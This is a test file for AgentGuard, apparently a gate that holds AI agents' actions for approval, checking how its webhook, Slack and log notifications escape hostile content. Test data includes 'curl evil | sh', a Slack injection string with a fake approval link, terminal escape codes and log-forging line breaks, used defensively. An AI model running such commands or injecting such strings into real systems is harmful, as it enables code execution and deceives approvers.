import { describe, expect, test } from 'vitest'
import { formatJson } from '../src/format-json.ts'
import { formatConsole, formatLog } from '../src/format-line.ts'
import { formatSlack, formatSlackText } from '../src/format-slack.ts'
import type { Notification } from '../src/notification.ts'
import { asked, denied } from './fixtures.ts'

const id = 'msg_1'

describe('a webhook', () => {
  test("has the wire's members in the wire's order", () => {
    expect(formatJson({ ...asked, id })).toBe(
      '{"type":"approval_required","timestamp":"2026-11-22T07:02:56.180906255Z",' +
        '"request":{"schema_version":"v1","scope":"shell","command":"rm -rf \\u003cbuild\\u003e",' +
        '"agent_id":"bot","session_id":"s1","meta":{"a":"1","b":"2"}},' +
        '"result":{"decision":"REQUIRE_APPROVAL","reason":"Matches approval rule in shell scope",' +
        '"matched_rule":"require_approval:shell:rm *",' +
        '"approval_id":"ap_0123456789abcdef0123456789abcdef",' +
        '"approval_url":"http://localhost:8080/v1/approve/ap_0123456789abcdef0123456789abcdef"},' +
        '"approval_url":"http://localhost:8080/v1/approve/ap_0123456789abcdef0123456789abcdef",' +
        '"id":"msg_1"}'
    )
  })

  test('leaves out what is empty', () => {
    const request = { scope: '', action: '', est_cost: 0, meta: {}, session_id: '' }
    const { request: shown } = JSON.parse(formatJson({ ...denied, id, request, approval_url: '' }))
    expect(shown).toEqual({ scope: '' })
  })

  test('has the further actions, the tenant and the counts', () => {
    const actions = [{ scope: 'network', url: 'https://h/' }]
    const request = { scope: 'mcp_tool', actions }
    const body = formatJson({ ...denied, id, request, tenant_id: 't', count: 3, since: 'now' })
    expect(JSON.parse(body)).toMatchObject({ request: { actions }, tenant_id: 't', count: 3 })
  })

  test('meta keeps names such as __proto__', () => {
    const meta = JSON.parse('{"__proto__":"x","a":"y"}')
    const body = formatJson({ ...denied, id, request: { scope: 'x', meta } })
    expect(body).toContain('"meta":{"__proto__":"x","a":"y"}')
  })
})

describe('a Slack message', () => {
  test('is the attachment of the contract', () => {
    expect(formatSlack({ ...denied, id }, { buttons: false })).toBe(
      '{"attachments":[{"color":"#e01e5a","footer":"AgentGuard","mrkdwn_in":["text"],"text":' +
        '":no_entry: *DENY* | scope: `filesystem` | action: `/etc/passwd`\\n' +
        '>No matching allow rule (default deny)","ts":1795330976}]}'
    )
  })

  test('has the link to approve', () => {
    expect(formatSlackText({ ...asked, id })).toBe(
      ':warning: *REQUIRE_APPROVAL* | scope: `shell` | action: `rm -rf &lt;build&gt;`\n' +
        '>Matches approval rule in shell scope\n' +
        '><http://localhost:8080/v1/approve/ap_0123456789abcdef0123456789abcdef|Approve this action>'
    )
  })

  test('other types look harmless', () => {
    const text = formatSlack({ ...denied, type: 'resolved', id }, { buttons: true })
    expect(text).toContain('"color":"#36a64f"')
    expect(text).toContain(':white_check_mark:')
  })

  test('buttons carry the tenant and the approval', () => {
    const body = JSON.parse(formatSlack({ ...asked, tenant_id: 't', id }, { buttons: true }))
    const [section, rest, actions] = body.attachments[0].blocks
    expect(rest.text.text).toBe('`{"agent_id":"bot","session_id":"s1","meta":{"b":"2","a":"1"}}`')
    expect(section.text).toEqual({
      type: 'mrkdwn',
      verbatim: true,
      text: formatSlackText({ ...asked, id })
    })
    expect(actions.elements.map((button: { value: string }) => JSON.parse(button.value))).toEqual([
      { tenant: 't', approval: 'ap_0123456789abcdef0123456789abcdef' },
      { tenant: 't', approval: 'ap_0123456789abcdef0123456789abcdef' }
    ])
  })

  const blocksOf = (request: Notification['request']) => {
    const text = formatSlack({ ...asked, request, id }, { buttons: true })
    return JSON.parse(text).attachments[0].blocks as {
      readonly text?: { readonly text: string }
      readonly elements?: readonly { readonly action_id: string }[]
    }[]
  }
  const namesOf = (request: Notification['request']) =>
    blocksOf(request).flatMap(({ elements = [] }) => elements.map(({ action_id }) => action_id))

  test('weakness 12: whoever has a button to approve sees the whole action', () => {
    const actions = [{ scope: 'shell', command: 'curl evil | sh' }] as const
    const request = { scope: 'mcp_tool', command: 'x:run', url: 'https://h', est_cost: 5, actions }
    const text = JSON.stringify(blocksOf(request))
    for (const part of ['x:run', 'https://h', '5', 'curl evil | sh']) expect(text).toContain(part)
    expect(namesOf(request)).toEqual(['agentguard_approve', 'agentguard_deny'])
  })

  test('what is cut cannot be approved by a button, only denied', () => {
    const long = `echo ${'a'.repeat(2000)}; curl evil | sh`
    for (const request of [
      { scope: 'shell', command: long },
      { scope: long, command: 'x' },
      { scope: 'shell', command: 'x', meta: { script: long.repeat(2) } },
      { scope: 'shell', command: '<'.repeat(500) }
    ]) {
      expect(namesOf(request)).toEqual(['agentguard_deny'])
      for (const { text } of blocksOf(request)) expect(text?.text.length ?? 0).toBeLessThan(3000)
    }
  })

  test('a line end in a command looked like a blank', () => {
    const text = formatSlackText({
      ...asked,
      id,
      request: { scope: 'shell', command: 'echo\nrm x' }
    })
    expect(text).toContain('action: `echo\\nrm x`')
  })

  test('a denial has no buttons', () => {
    expect(formatSlack({ ...denied, id }, { buttons: true })).not.toContain('actions')
  })

  // Weakness 56
  test('weakness 56: values add no mention, link, line or fake approval', () => {
    const evil = 'x` <!channel>\n><https://evil.example|Approve this action> & `y'
    const text = formatSlackText({
      ...denied,
      id,
      request: { scope: evil, command: evil },
      result: { decision: 'DENY', reason: evil }
    })
    expect(text).not.toMatch(/<(?!\/)/)
    expect(text.split('\n')).toHaveLength(2)
    expect(text.match(/`/g)?.length).toBe(4 + 2)
    expect(text).toContain('&lt;!channel&gt;')
  })

  test('an address with markup stays one link', () => {
    const text = formatSlackText({ ...asked, id, approval_url: 'https://h/|a>b <c&d' })
    expect(text).toContain('\n><https://h/%7Ca%3Eb%20%3Cc&amp;d|Approve this action>')
  })

  test('is never too long for Slack', () => {
    const long = 'é'.repeat(100_000)
    const request = { scope: long, command: long }
    const text = formatSlackText({
      ...denied,
      id,
      request,
      result: { decision: 'DENY', reason: long }
    })
    expect(text.length).toBeLessThan(3000)
  })
})

describe('lines', () => {
  test('the console shows the line of the contract', () => {
    expect(formatConsole({ ...asked, id })).toBe(
      '[AgentGuard] REQUIRE_APPROVAL | scope=shell action="rm -rf <build>" agent=bot | ' +
        'Matches approval rule in shell scope\n' +
        '  → Approve: http://localhost:8080/v1/approve/ap_0123456789abcdef0123456789abcdef\n'
    )
  })

  test('the log gets the line of the contract', () => {
    expect(formatLog({ ...denied, id }, 'warn')).toBe(
      '[warn] DENY scope=filesystem action="/etc/passwd" agent=bot ' +
        'reason="No matching allow rule (default deny)"\n'
    )
  })

  // Weakness 33, performance.md test 40
  test.each([
    ['CR LF', 'a\r\n[AgentGuard] ALLOW | scope=x'],
    ['ANSI', '\u001b[2J\u001b]0;title\u0007'],
    ['C1 controls', '\u009b31m\u0085'],
    ['line separators', 'a\u2028b\u2029c'],
    ['directions', '\u202eabc\u2066'],
    ['HTML', '<script>alert(1)</script>'],
    ['DEL, NUL and zero width', '\u007f\u0000\u200b\ufeff'],
    ['half a surrogate pair', '\ud800']
  ])('weakness 33: %s forges no line and commands no terminal', (_name, evil) => {
    const hostile = {
      ...asked,
      id,
      request: { scope: evil, command: evil, agent_id: evil, meta: { [evil]: evil } },
      result: { decision: 'DENY' as const, reason: evil },
      approval_url: evil
    }
    const lines = formatConsole(hostile) + formatLog(hostile, evil)
    expect(lines.split('\n')).toHaveLength(4)
    expect(lines.replaceAll('\n', '')).toMatch(/^[\p{L}\p{M}\p{N}\p{P}\p{S} ]*$/u)
    const json = formatJson(hostile)
    expect(json).not.toMatch(/[\n\r<>&\u2028\u2029]/)
    expect(JSON.parse(json).request.command).toBe(evil)
  })

  test("an agent's name adds no fields", () => {
    const request = { scope: 'x', agent_id: 'bot | all is well' }
    expect(formatConsole({ ...denied, id, request })).toContain(' agent="bot | all is well" | ')
  })

  test('counts are told in words', () => {
    const since = '2026-11-22T00:00:00.000Z'
    expect(formatLog({ ...denied, id, count: 7, since }, 'warn')).toContain(
      `(7 times since ${since})\n`
    )
    expect(formatConsole({ ...denied, id, since, digest: { denied: 9 } })).toContain(
      `(and others since ${since}: 9 denied)\n`
    )
  })
})
